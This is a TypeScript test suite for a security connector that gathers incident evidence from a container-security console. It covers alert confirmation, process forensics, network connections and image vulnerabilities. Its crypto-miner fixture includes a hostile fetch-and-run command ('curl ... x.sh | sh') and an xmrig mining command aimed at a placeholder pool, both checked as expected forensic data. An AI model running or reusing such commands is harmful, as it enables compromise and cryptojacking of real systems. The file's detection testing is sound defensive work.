import { readFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import * as z from 'zod';
import type { CwppPart } from '../../connectors/cwpp/evidence-source.ts';
import { computeEvidence } from '../../connectors/cwpp/prisma-cloud-compute/evidence.ts';
import { normalize } from '../../connectors/cwpp/prisma-cloud-compute/map.ts';
import { confirmationOf } from '../../domain/analysis/confirmation.ts';
import type { FactKind, FactOf } from '../../domain/evidence/fact.ts';
import { composePack, type EvidenceDraft, evidenceDraftSchema } from '../../domain/evidence/pack.ts';
import type { NormalizedFinding } from '../../domain/ocsf/detection-finding.ts';
import { CONTAINER_ID, type Console, IMAGE_ID, INCIDENT_ID, startConsole } from './prisma-cloud-compute-console.ts';
import { deliveryOf, fixture, fixtureText } from './prisma-cloud-compute-fixtures.ts';

const GATHERED = '2025-10-14T09:20:00.000Z';

let on: Console;
beforeEach(async () => {
  on = await startConsole();
});
afterEach(() => on.close());

function story(name: string, change: Record<string, unknown> = {}): readonly NormalizedFinding[] {
  const url = new URL(`../../local/sandbox/scenarios/crypto-miner/webhooks/${name}.json`, import.meta.url);
  const text = JSON.stringify({ ...JSON.parse(readFileSync(url, 'utf8')), ...change });
  const made = normalize(text, deliveryOf(text));
  if (!made.ok) throw new Error(made.reason);
  return made.findings;
}

const both = () => [...story('container-runtime'), ...story('incident')];

async function gather(
  part: CwppPart,
  findings: readonly NormalizedFinding[],
  options: {
    readonly forensics?: boolean;
    readonly now?: string;
    readonly waits?: number[];
    readonly left?: number;
    readonly fetch?: typeof fetch;
  } = {},
): Promise<readonly EvidenceDraft[]> {
  const source = computeEvidence({
    compute: () =>
      on.client({
        forensics: options.forensics ?? true,
        ...(options.fetch === undefined ? {} : { fetch: options.fetch }),
      }),
    now: () => new Date(options.now ?? GATHERED),
    sleep: async (ms) => void options.waits?.push(ms),
  });
  const deadline = new Date(Date.parse(options.now ?? GATHERED) + (options.left ?? 180_000));
  const { drafts, cost } = await source.gather(part, findings, deadline);
  for (const draft of drafts) expect(evidenceDraftSchema.parse(draft)).toEqual(draft);
  expect(cost.calls).toBe(on.server.calls.filter(({ method }) => method === 'GET').length);
  return drafts;
}

function facts<K extends FactKind>(drafts: readonly EvidenceDraft[], kind: K): FactOf<K>[] {
  const isKind = (fact: EvidenceDraft['fact']): fact is FactOf<K> => fact.kind === kind;
  return drafts.map(({ fact }) => fact).filter(isKind);
}

function confirmation(drafts: readonly EvidenceDraft[]) {
  const [workload] = both();
  if (!workload) throw new Error('no finding');
  const part = {
    part: 'alert-details' as const,
    gatheredAt: GATHERED,
    drafts: [...drafts],
    cost: { calls: 0, bytes: 0, milliseconds: 0 },
  };
  return confirmationOf(
    composePack({ incidentId: 'inc-1', workload: workload.workload, vendorSeverity: 'high', parts: [part] }),
  );
}

describe('alert details', () => {
  it('ask for the record of a request: what it was, and that it was refused, from the list of its trigger', async () => {
    const [waas] = z.array(z.looseObject({})).parse(fixture('api/audit-waas-container.json'));
    const [opa] = z.array(z.looseObject({})).parse(fixture('api/audit-admission.json'));
    on.sandbox.add('firewallAudits', { ...waas, effect: 'prevent' });
    on.sandbox.add('admissionAudits', { ...opa, effect: 'block' });
    const findings = ['container-app-firewall', 'admission'].flatMap((name) => {
      const text = fixtureText(`push/${name}.template-v1.json`);
      const made = normalize(text, deliveryOf(text));
      if (!made.ok) throw new Error(made.reason);
      return made.findings;
    });
    const drafts = await gather('alert-details', findings);
    expect(facts(drafts, 'confirmation').map(({ confirmed }) => confirmed)).toEqual([true, true]);
    expect(facts(drafts, 'alert').map(({ effect }) => effect)).toEqual([undefined, undefined, 'denied', 'denied']);
    expect(facts(drafts, 'web-request')).toMatchObject([{ path: '/vulnerabilities/exec/', effect: 'denied' }]);
    expect(facts(drafts, 'admission-request')).toMatchObject([{ operation: 'CREATE', effect: 'denied' }]);
  });

  it('do not confirm a request the console has no record of', async () => {
    const text = fixtureText('push/admission.template-v1.json');
    const made = normalize(text, deliveryOf(text));
    if (!made.ok) throw new Error(made.reason);
    expect(facts(await gather('alert-details', made.findings), 'confirmation')).toMatchObject([{ confirmed: false }]);
  });

  it('confirm the alerts that the console has: the audit by container, category, rule and time, the incident by its id', async () => {
    const drafts = await gather('alert-details', both());
    expect(facts(drafts, 'confirmation')).toEqual([
      {
        kind: 'confirmation',
        confirmed: true,
        vendorRecord: '68ee2bd4b2a8e98a1c36a9aa',
        reason: `the console has audit 68ee2bd4b2a8e98a1c36a9aa of category cryptoMinerProcess on container ${CONTAINER_ID}`,
      },
      {
        kind: 'confirmation',
        confirmed: true,
        vendorRecord: INCIDENT_ID,
        answerable: { vendor: 'prisma-cloud-compute', kind: 'incident', id: INCIDENT_ID },
        reason: `the console has incident ${INCIDENT_ID} of category cryptoMiner on container ${CONTAINER_ID}`,
      },
    ]);
    expect(confirmation(drafts).all).toBe(true);
    expect(facts(drafts, 'gap')).toEqual([]);
  });

  it("hold the alerts, the audit with the vendor's own severity and techniques, and the container", async () => {
    const drafts = await gather('alert-details', both());
    expect(
      facts(drafts, 'alert').map(({ category, severity, techniques }) => [category, severity, techniques]),
    ).toEqual([
      ['cryptoMinerProcess', 'high', ['T1496']],
      ['cryptoMiner', 'high', ['T1496']],
      ['cryptoMinerProcess', 'high', ['T1496']],
    ]);
    expect(facts(drafts, 'container')).toEqual([
      {
        kind: 'container',
        name: '/k8s_checkout_checkout-6d9f7c5b8d-x2x9q_payments_0',
        containerId: CONTAINER_ID,
        image: '111122223333.dkr.ecr.us-east-1.amazonaws.com/shop/checkout:1.42.0',
        imageDigest: IMAGE_ID,
        startedAt: '2025-10-14T08:59:41.000Z',
        entryPoint: '/usr/bin/java -jar /app/checkout.jar',
        listeningPorts: [8080],
      },
    ]);
  });

  it.each([
    ['prevent', 'prevented'],
    ['block', 'blocked'],
  ])(
    'say that the Defender stopped it when the record has effect %s - a webhook does not say so',
    async (effect, word) => {
      const drafts = await gather('alert-details', story('container-runtime'), {
        fetch: async (...call) => {
          const answer = await fetch(...call);
          const text = await answer.text();
          return new Response(text.replaceAll('"effect":"alert"', `"effect":"${effect}"`), answer);
        },
      });
      expect(facts(drafts, 'alert').map((fact) => fact.effect)).toEqual([undefined, word]);
      expect(drafts.find(({ fact }) => fact.kind === 'alert' && fact.effect !== undefined)?.source).toBe('cwpp_api');
    },
  );

  it.each<[string, Record<string, unknown>, string]>([
    [
      'an incident id the console does not know',
      { incidentId: 'f'.repeat(24) },
      `the console has no incident ${'f'.repeat(24)}`,
    ],
    [
      'another container',
      { containerID: 'ab'.repeat(32) },
      `incident ${INCIDENT_ID} of the console is about another container`,
    ],
    [
      'another category',
      { category: 'reverseShell' },
      `incident ${INCIDENT_ID} of the console is of category cryptoMiner, the alert says reverseShell`,
    ],
    [
      'no container and no host',
      { containerID: '', host: '' },
      `the alert names no container or host that incident ${INCIDENT_ID} of the console could be compared with`,
    ],
  ])('do not confirm an incident with %s - a webhook is a hint', async (_what, change, reason) => {
    const drafts = await gather('alert-details', story('incident', change));
    expect(facts(drafts, 'confirmation')).toEqual([{ kind: 'confirmation', confirmed: false, reason }]);
  });

  it.each<[string, Record<string, unknown>]>([
    ['another category', { category: 'reverseShell' }],
    ['another rule', { rule: 'another' }],
    ['a time at which nothing happened', { time: 'Oct 14, 2025 11:00:00 UTC' }],
    ['another container', { containerID: 'ab'.repeat(32) }],
  ])('do not confirm an audit with %s', async (_what, change) => {
    const drafts = await gather('alert-details', story('container-runtime', change));
    expect(facts(drafts, 'confirmation').map(({ confirmed }) => confirmed)).toEqual([false]);
  });

  it('find an incident without an id by container, category and time', async () => {
    const drafts = await gather('alert-details', story('incident', { incidentId: '' }));
    expect(facts(drafts, 'confirmation')).toMatchObject([{ confirmed: true, vendorRecord: INCIDENT_ID }]);
  });

  it('show the one forged alert among real ones, so that the incident stays unconfirmed', async () => {
    const forged = story('container-runtime', { category: 'reverseShell', message: 'forged' });
    const drafts = await gather('alert-details', [...both(), ...forged]);
    expect(facts(drafts, 'confirmation').map(({ confirmed }) => confirmed)).toEqual([false, true, true]);
    expect(confirmation(drafts)).toMatchObject({ any: true, all: false });
  });

  it('ask for the audits of a container once, however many alerts there are', async () => {
    const parts = Array.from({ length: 200 }, (_, index) => ({ message: `event ${index}`, category: 'dnsQuery' }));
    const drafts = await gather('alert-details', story('container-runtime', { aggregatedAlerts: parts }));
    const asked = on.received().filter((call) => call.endsWith('/audits/runtime/container'));
    expect(asked).toHaveLength(1);
    expect(facts(drafts, 'gap').map(({ missing }) => missing)).toEqual(['151 further alerts of this incident']);
  });

  it('confirm nothing when the console cannot be asked, and name the gap', async () => {
    on.server.misbehave({ system: 'compute', method: 'GET', times: 100, reply: { status: 403 } });
    const drafts = await gather('alert-details', both());
    expect(facts(drafts, 'confirmation').map(({ confirmed }) => confirmed)).toEqual([false, false]);
    expect(facts(drafts, 'gap').map(({ missing }) => missing)).toEqual([
      'the confirmation of an alert by the vendor',
      'the confirmation of an alert by the vendor',
      'the container in the inventory',
      'the learned behaviour of the container',
    ]);
    expect(facts(drafts, 'gap')[0]?.reason).toMatch(/answered 403; check the read credential and its permissions$/);
  });

  it('confirm nothing when the secret is not there', async () => {
    on.secrets.unavailable = true;
    const drafts = await gather('alert-details', both());
    expect(facts(drafts, 'confirmation').map(({ confirmed }) => confirmed)).toEqual([false, false]);
    expect(facts(drafts, 'gap')[0]?.reason).toBe('secret parapet/compute-read cannot be read');
  });

  it('confirm a vulnerability alert only when the scan lists every vulnerability it names', async () => {
    const drafts = await gather('alert-details', story('vulnerability'));
    expect(facts(drafts, 'confirmation')).toMatchObject([{ confirmed: true, vendorRecord: IMAGE_ID }]);
    const [found] = story('vulnerability');
    if (!found) throw new Error('no finding');
    found.finding.vulnerabilities?.push({ cve: { uid: 'CVE-2099-0001' } });
    const forged = await gatherAgain(found);
    expect(facts(forged, 'confirmation')).toEqual([
      {
        kind: 'confirmation',
        confirmed: false,
        reason: "the console's scan does not list 1 of the 3 vulnerabilities, first CVE-2099-0001",
      },
    ]);
  });

  async function gatherAgain(found: NormalizedFinding): Promise<readonly EvidenceDraft[]> {
    await on.close();
    on = await startConsole();
    return await gather('alert-details', [found]);
  }
});

describe('runtime activity', () => {
  it('tells the story: which process started which, and what was written', async () => {
    const drafts = await gather('runtime-activity', both());
    const forensic = drafts.filter(({ field }) => field.includes('forensic'));
    expect(forensic.map(({ fact }) => fact)).toEqual([
      {
        kind: 'process',
        pid: 1,
        path: '/usr/bin/java',
        commandLine: '/usr/bin/java -jar /app/checkout.jar',
        user: 'root',
        startedAt: '2025-10-14T08:59:41.300Z',
      },
      {
        kind: 'process',
        pid: 4690,
        parentPid: 1,
        path: '/bin/sh',
        commandLine: 'sh -c curl -fsSL http://203.0.113.7/x.sh | sh',
        user: 'root',
        startedAt: '2025-10-14T09:15:40.100Z',
      },
      { kind: 'file-written', path: '/tmp/.x/xmrig', byPid: 4690, user: 'root', at: '2025-10-14T09:15:52.000Z' },
      {
        kind: 'process',
        pid: 4711,
        parentPid: 4690,
        path: '/tmp/.x/xmrig',
        commandLine: '/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333',
        user: 'root',
        startedAt: '2025-10-14T09:16:04.000Z',
      },
    ]);
    expect(forensic[1]?.entities).toEqual([
      { kind: 'process', canonical: `${CONTAINER_ID}#4690`, label: '4690 /bin/sh' },
      { kind: 'file', canonical: '/bin/sh', label: '/bin/sh' },
      { kind: 'container', canonical: CONTAINER_ID, label: CONTAINER_ID },
    ]);
    expect(facts(drafts, 'gap')).toEqual([]);
  });

  it('marks everything the workload could have chosen as attacker-influenced', async () => {
    const drafts = [...(await gather('runtime-activity', both()))];
    const kinds = new Set(drafts.filter(({ trust }) => trust !== 'attacker_influenced').map(({ fact }) => fact.kind));
    expect([...kinds]).toEqual(['container']);
  });

  it('knows what the workload normally does', async () => {
    const drafts = await gather('runtime-activity', both());
    expect(facts(drafts, 'learned-behaviour')).toEqual([
      {
        kind: 'learned-behaviour',
        since: '2025-09-01T00:00:00.000Z',
        processes: ['/usr/bin/java'],
        outboundPorts: [5432],
        domains: ['payments-db.internal'],
      },
    ]);
  });

  it('does without the forensic log when it is not switched on, and says so', async () => {
    const drafts = await gather('runtime-activity', both(), { forensics: false });
    expect(facts(drafts, 'gap')).toEqual([
      {
        kind: 'gap',
        missing: 'the forensic log of the container',
        reason: 'it is switched off (sources.prisma-cloud-compute.api.forensics)',
      },
    ]);
    expect(facts(drafts, 'process').map(({ pid }) => pid)).toEqual([4690, 4690, 4711, 4711]);
  });

  it('waits once for a snapshot the console has not collected yet', async () => {
    on.server.misbehave({ system: 'compute', path: 'forensic$', reply: { status: 200, body: 'null' } });
    const waits: number[] = [];
    const drafts = await gather('runtime-activity', both(), { now: '2025-10-14T09:17:15.000Z', waits });
    expect(waits).toEqual([90_000]);
    expect(facts(drafts, 'process').map(({ pid }) => pid)).toContain(1);
  });

  it('does not wait for a snapshot longer than its function may run - the whole part would be lost', async () => {
    on.server.misbehave({ system: 'compute', path: 'forensic$', reply: { status: 200, body: 'null' } });
    const waits: number[] = [];
    const drafts = await gather('runtime-activity', both(), { now: '2025-10-14T09:17:15.000Z', waits, left: 90_000 });
    expect(waits).toEqual([]);
    expect(facts(drafts, 'gap')).toMatchObject([{ missing: 'the forensic log of the container' }]);
  });

  it('does not wait for a snapshot that should long be there, and names the gap', async () => {
    on.server.misbehave({ system: 'compute', path: 'forensic$', reply: { status: 200, body: '[]' } });
    const waits: number[] = [];
    const drafts = await gather('runtime-activity', both(), { waits });
    expect(waits).toEqual([]);
    expect(facts(drafts, 'gap')).toMatchObject([{ missing: 'the forensic log of the container' }]);
  });

  it("does not take a neighbour's processes for the container's", async () => {
    on.server.misbehave({
      system: 'compute',
      path: 'runtime/container',
      reply: {
        status: 200,
        body: JSON.stringify([{ _id: 'x', containerId: '7b'.repeat(32), processPath: '/bin/evil', type: 'processes' }]),
      },
    });
    const drafts = await gather('runtime-activity', both(), { forensics: false });
    expect(facts(drafts, 'process')).toEqual([]);
  });
});

describe('network', () => {
  it('has the connection to the pool and the look-up of its name', async () => {
    const drafts = await gather('network', both());
    expect(facts(drafts, 'connection')).toEqual([
      {
        kind: 'connection',
        direction: 'outbound',
        sourceIp: '10.0.33.17',
        destinationIp: '203.0.113.50',
        destinationPort: 3333,
        at: '2025-10-14T09:16:05.000Z',
      },
      {
        kind: 'connection',
        direction: 'outbound',
        destinationIp: '203.0.113.50',
        destinationPort: 3333,
        at: '2025-10-14T09:16:05.050Z',
      },
    ]);
    expect(new Set(facts(drafts, 'dns-query').map(({ domain }) => domain))).toEqual(new Set(['pool.example.net']));
    expect(facts(drafts, 'process')).toEqual([]);
  });
});

describe('vulnerabilities', () => {
  it('are those of the image, the exploited one first', async () => {
    const drafts = await gather('vulnerabilities', both());
    expect(facts(drafts, 'image')).toEqual([
      {
        kind: 'image',
        name: '111122223333.dkr.ecr.us-east-1.amazonaws.com/shop/checkout:1.42.0',
        digest: IMAGE_ID,
        distribution: 'Debian GNU/Linux 12 (bookworm)',
        vulnerabilityCount: 2,
      },
    ]);
    expect(facts(drafts, 'vulnerability')).toEqual([
      {
        kind: 'vulnerability',
        cve: 'CVE-2021-44228',
        cvss: 10,
        cvssVector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H',
        severity: 'critical',
        packageName: 'org.apache.logging.log4j_log4j-core',
        packageType: 'jar',
        packageVersion: '2.14.1',
        fixedIn: '2.15.0',
        imageDigest: IMAGE_ID,
        exploitInTheWild: true,
        exploitPublic: true,
        remote: true,
      },
      {
        kind: 'vulnerability',
        cve: 'CVE-2023-44487',
        cvss: 7.5,
        cvssVector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H',
        severity: 'high',
        packageName: 'nghttp2',
        packageType: 'package',
        packageVersion: '1.52.0-1',
        fixedIn: '1.52.0-1+deb12u1',
        imageDigest: IMAGE_ID,
        exploitInTheWild: false,
        exploitPublic: false,
        remote: false,
      },
    ]);
  });

  it('that cannot be read are a gap, not an image without any', async () => {
    on.server.misbehave({ system: 'compute', path: 'images', times: 9, reply: { status: 500 } });
    const drafts = await gather('vulnerabilities', both());
    expect(drafts.map(({ fact }) => fact.kind)).toEqual(['gap']);
  });

  it('of an image the console never scanned are a gap', async () => {
    const drafts = await gather('vulnerabilities', story('incident', { imageID: `sha256:${'0'.repeat(64)}` }));
    expect(facts(drafts, 'gap')).toEqual([
      { kind: 'gap', missing: 'the vulnerabilities of the image', reason: 'the console has no scan of it' },
    ]);
  });
});
